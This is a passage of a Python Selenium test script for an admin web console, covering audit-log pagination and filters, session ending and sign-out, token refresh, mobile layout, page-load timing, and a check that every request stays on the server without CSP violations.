        status, page = ctx.api.call("GET", "/audit?since=24h&limit=50", token=admin)
    check(page.get("next"), "50 events and more, yet GET /audit answers next = null")

    b = ctx.signed_in("admin", "console-admin")
    b.goto("audit")
    check(len(b.find("tr.event")) == 50, f"the audit page shows {len(b.find('tr.event'))} events, not its limit of 50")
    more = b.one("#audit-next")
    check(more.is_displayed(), "no 'Older' button although the API has a next page")
    b.click(more)
    b.wait(lambda d: len(d.find_elements(By.CSS_SELECTOR, "tr.event")) > 50, "more events after 'Older'")
    shown = [r.get_attribute("data-event-type") for r in b.find("tr.event")]
    # The API's two pages, read after the page's (nothing else happens
    # meanwhile, so both read the same events).
    status, first = ctx.api.call("GET", "/audit?since=24h&limit=50", token=admin)
    status, second = ctx.api.call("GET", "/audit?" + urllib.parse.urlencode(
        {"since": "24h", "limit": "50", "next": first["next"]}), token=admin)
    check(status == 200, f"GET /audit, second page: {status} {second}")
    expected = [e["event_type"] for e in first["events"] + second["events"]]
    check(shown == expected, f"the page's two pages are not the API's, in order:\n{shown}\n!=\n{expected}")
    total = len(shown)
    print(f"    {total} events on two pages ({made} runs made for them)")

    status, disabled = ctx.api.call("GET", "/audit?since=1h&type=AGENT_DISABLED", token=admin)
    check(status == 200 and disabled["events"], f"no AGENT_DISABLED event: {status} {disabled}")
    actor = disabled["events"][0]["actor"]
    status, me = ctx.api.call("GET", "/me", token=admin)
    check(actor == "user:" + me["user_id"], f"AGENT_DISABLED's actor is {actor!r}, not the admin (user:<id>)")
    b.one("#audit-type").clear()
    b.one("#audit-type").send_keys("AGENT_DISABLED")
    b.one("#audit-actor").clear()
    b.one("#audit-actor").send_keys(actor)
    Select(b.one("#audit-since")).select_by_value("1h")
    b.mark_stale("audit")
    b.click(b.one("#audit-form button[type=submit]"))
    b.wait_loaded("audit")
    rows = b.find("tr.event")
    check(rows, "the AGENT_DISABLED search shows nothing")
    for row in rows:
        check(row.get_attribute("data-event-type") == "AGENT_DISABLED", "the type filter lets other events through")
        check(actor in b.text(row), "an event of another actor is shown")
    check("planner-a" in b.text(rows[0]), "the AGENT_DISABLED event does not name planner-a")
    for kind in ["PROPOSAL_APPROVED", "PROPOSAL_REJECTED", "AGENT_ENABLED"]:
        status, found = ctx.api.call("GET", f"/audit?since=1h&type={kind}", token=admin)
        check(status == 200 and found["events"], f"no {kind} event in the audit")
    b.screenshot("audit")


def test_sessions(ctx):
    """My sessions lists the current one; ending another ends its tokens;
    signing out ends this one (its access token is then refused 401)."""
    other = ctx.api.login("approver-a")
    with ctx.own_browser("sessions") as b:
        b.sign_in("approver-a")
        b.goto("sessions")
        current = b.one("tr.session[data-current=true]")
        sid = current.get_attribute("data-session-id")
        token = b.bearer()
        status, me = ctx.api.call("GET", "/me", token=token)
        check(status == 200 and me["username"] == "approver-a", f"GET /me with the page's token: {status} {me}")
        check(len(b.find("tr.session[data-current=true]")) == 1, "more than one session is 'this one'")
        row = b.one(f"tr.session[data-session-id='{other['session_id']}'][data-current=false]")
        b.screenshot("sessions-list")

        # End the other session from the page.
        b.mark_stale("sessions")
        b.click(row.find_element(By.CSS_SELECTOR, "button.end-session"))
        b.wait_loaded("sessions")
        check(not b.find(f"tr.session[data-session-id='{other['session_id']}']"), "the ended session is still listed")
        status, _ = ctx.api.call("GET", "/me", token=other["access_token"])
        check(status == 401, f"the ended session's token answered {status}, expected 401")

        # Sign out: this session ends, not just the page's memory of it.
        b.click(b.one("#signout"))
        b.one("body[data-signed-in=false]")
        b.one("#signin:not([hidden])")
        check("Signed out" in b.text(b.one("#notice")), "no sign-out notice")
        status, _ = ctx.api.call("GET", "/me", token=token)
        check(status == 401, f"after sign-out, the old access token answered GET /me {status}, expected 401")
        again = ctx.api.login("approver-a")
        status, listing = ctx.api.call("GET", "/auth/sessions", token=again["access_token"])
        live = [s["session_id"] for s in listing["sessions"]]
        check(sid not in live and other["session_id"] not in live, f"ended sessions still listed: {live}")

        # "End all my sessions": after its confirmation, every token of
        # the user dies, the page's own included.
        b.sign_in("approver-a")
        b.goto("sessions")
        token = b.bearer()
        b.click(b.one("#end-all-sessions"))
        b.one("dialog#confirm[open]")
        b.click(b.one("#confirm-ok"))
        b.one("body[data-signed-in=false]")
        check("All your sessions ended" in b.text(b.one("#notice")), "no 'All your sessions ended' notice")
        for what, old in [("the page's", token), ("another session's", again["access_token"])]:
            status, _ = ctx.api.call("GET", "/me", token=old)
            check(status == 401, f"after 'End all my sessions', {what} token answered GET /me {status}, expected 401")
        b.screenshot("sessions")


def test_refresh(ctx):
    """A refused access token is refreshed, once, and the page goes on: the
    page's access token is revoked behind its back (POST /auth/revoke
    denies that token only; its session lives), and the next page still
    loads its data, through one POST /auth/refresh, with a new token."""
    with ctx.own_browser("refresh") as b:
        b.sign_in("approver-a")
        b.goto("sessions")
        old = b.bearer()
        status, body = ctx.api.call("POST", "/auth/revoke", {"token": old}, token=old)
        check(status == 200 and body == {"revoked": 1}, f"revoking the page's token: {status} {body}")
        status, _ = ctx.api.call("GET", "/me", token=old)
        check(status == 401, f"the revoked token answered GET /me {status}, expected 401")
        b.requests_of("refresh")  # what came before is not this step's
        before = len([u for u in b.requests_of("refresh") if u.endswith("/auth/refresh")])
        b.goto("runs")
        b.one("body[data-signed-in=true]")
        check(not b.find("#runs-table td.error"), "the runs page shows an error after the refresh")
        refreshes = len([u for u in b.requests_of("refresh") if u.endswith("/auth/refresh")]) - before
        check(refreshes == 1, f"{refreshes} POST /auth/refresh for one refused token, expected 1")
        new = b.bearer()
        check(new != old, "the page still sends the revoked token")
        status, me = ctx.api.call("GET", "/me", token=new)
        check(status == 200 and me["username"] == "approver-a", f"the refreshed token answered GET /me {status}")
        b.screenshot("refresh")


def test_phone(ctx):
    """At 390x844 with mobile emulation, approvals and runs do not scroll
    sideways."""
    with ctx.own_browser("phone", viewport=PHONE, mobile=True) as b:
        b.sign_in("approver-a")
        width, height = b.js("return [window.innerWidth, window.innerHeight]")
        check((width, height) == PHONE, f"viewport is {width}x{height}, expected {PHONE}")
        b.wait_loaded("approvals")
        b.one("article.proposal")
        b.screenshot("phone-approvals")
        b.no_overflow("approvals")
        b.goto("runs")
        b.click(b.one("tr.run"))
        b.one("#run-detail[data-status]")
        b.screenshot("phone")
        b.no_overflow("runs")


def test_timing(ctx):
    """Each page with its data (`data-load-ms`, set by console.js once the
    page's data is rendered) and the document itself (Navigation Timing
    `loadEventEnd`) load within the budget on warden serve."""
    b = ctx.signed_in("admin", "console-admin")
    # The median of 3 visits per page: one visit may meet a GC pause or a
    # first-time cost (the runs page reads the workspaces once).
    documents = []
    for _ in range(3):
        b.open()
        documents.append(b.wait(
            lambda d: d.execute_script(
                "const n = performance.getEntriesByType('navigation')[0]; return n && n.loadEventEnd"),
            "loadEventEnd"))
    b.sign_in("console-admin")
    visits = {page: [] for page in PAGES}
    order = PAGES[1:] + PAGES[:1]  # the first page is already shown
    errors = {}
    for _ in range(3):
        for page in order:
            b.goto(page)
            visits[page].append(b.load_ms(page))
            # A page whose data did not come (a missing endpoint) would
            # load fast and prove nothing: say what it showed instead.
            for e in b.find(f"#page-{page} .error"):
                errors.setdefault(page, b.text(e))
    rows = [("document (loadEventEnd)", documents)] + [(page, visits[page]) for page in PAGES]
    print(f"    {'page':<24}{'visit 1':>9}{'visit 2':>9}{'visit 3':>9}{'median':>9}  (ms, budget {BUDGET_MS:.0f})")
    slow = []
    for name, values in rows:
        median = statistics.median(values)
        print(f"    {name:<24}" + "".join(f"{v:>9.1f}" for v in values) + f"{median:>9.1f}")
        if median > BUDGET_MS:
            slow.append(f"{name} {median:.1f} ms")
    b.goto("approvals")
    b.screenshot("timing")
    check(not errors, "pages without their data: " + "; ".join(f"{p}: {t}" for p, t in errors.items()))
    check(not slow, f"over {BUDGET_MS:.0f} ms: {', '.join(slow)}")


def csp_violation(text):
    """Whether a console message is Chromium's report of a CSP or Trusted
    Types refusal."""
    return "Content Security Policy" in text or "Trusted Type" in text


def on_server(ctx, url):
    """Whether a request goes to the server (data: URLs stay in the page)."""
    parts = urllib.parse.urlsplit(url)
    return parts.scheme == "data" or (parts.scheme in ("http", "https") and parts.netloc == ctx.netloc)


def test_network(ctx):
    """Across every test, every request of every browser went to the
    server, and no page broke its own CSP."""
    for b in list(ctx.open_browsers):
        b.drain()
    requests = [(b.name, t, url) for b in ctx.browsers for t, url, _ in b.requests]
    check(requests, "the performance log recorded no request")
    off = sorted({f"{name}/{t}: {url}" for name, t, url in requests if not on_server(ctx, url)})
    check(not off, "requests to another host:\n      " + "\n      ".join(off))
    # Chromium reports each CSP or Trusted Types refusal on the console.
    violations = [
        f"{b.name}/{t}: {text}"
        for b in ctx.browsers
        for t, _, text in b.console
        if csp_violation(text)
    ]
    check(not violations, "the page broke its CSP:\n      " + "\n      ".join(violations))
    internal = sum(len(b.internal) for b in ctx.browsers)
    print(
        f"    {len(requests)} requests from {len(ctx.browsers)} browsers, every one to {ctx.netloc} "
        f"({sum(u.startswith('data:') for _, _, u in requests)} data: URLs); apart from them, "
        f"{internal} chrome:// loads of the browsers' own new-tab page before the console opened"
    )
    per_test = {}
    for _, t, _ in requests:
        per_test[t] = per_test.get(t, 0) + 1
    print("    per test: " + ", ".join(f"{t} {n}" for t, n in per_test.items()))
    if ctx.shown is None or ctx.shown not in ctx.open_browsers:
        ctx.shown = next(iter(ctx.open_browsers), None)


TESTS = [
    test_headers,
    test_approve,
    test_reject,
    test_kill_switch,
    test_xss,
    test_isolation,
    test_health,
    test_audit,
    test_sessions,
    test_refresh,
    test_phone,
    test_timing,
    # Last, so that "every test" includes the timing's visits.
    test_network,
]


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--url", required=True)
    parser.add_argument("--accounts", required=True, help="target/console/accounts.json")
    parser.add_argument("--screenshots", required=True)
    parser.add_argument("--chromium", default="/usr/bin/chromium")
    parser.add_argument("--chromedriver", default="/usr/bin/chromedriver")
    args = parser.parse_args()
    Path(args.screenshots).mkdir(parents=True, exist_ok=True)
    # A TERM (infra/console.sh interrupted) still closes every browser.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))

    ctx = Context(args)
    failed = []
    try:
        for test in TESTS:
            name = test.__name__[len("test_"):]
            ctx.test = name
            print(f"--- {name}: {' '.join(test.__doc__.split())}", flush=True)
            started = time.monotonic()
            try:
                test(ctx)
                outcome = "ok"
            except Exception as e:  # one test's failure must not hide the others'
                failed.append(name)
                outcome = "FAILED"
                if isinstance(e, Failure):
                    print(f"    {e}")
                else:
                    traceback.print_exc(file=sys.stdout)
            finally:
                # Each request is counted for the test that made it.
                for b in list(ctx.open_browsers):
                    with contextlib.suppress(Exception):
                        b.drain()
                shown = ctx.shown if ctx.shown in ctx.open_browsers else None
                if shown is not None and name not in ctx.saved:
                    try:
                        shown.screenshot(name)
                    except Exception as e:  # a screenshot must not turn a pass into a crash
                        print(f"    (no screenshot: {e.__class__.__name__})")
            print(f"    {outcome} ({time.monotonic() - started:.1f} s)", flush=True)
    finally:
        ctx.close_all()
    passed = len(TESTS) - len(failed)
    print(f"console: {passed} passed, {len(failed)} failed" + (f" ({', '.join(failed)})" if failed else ""))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
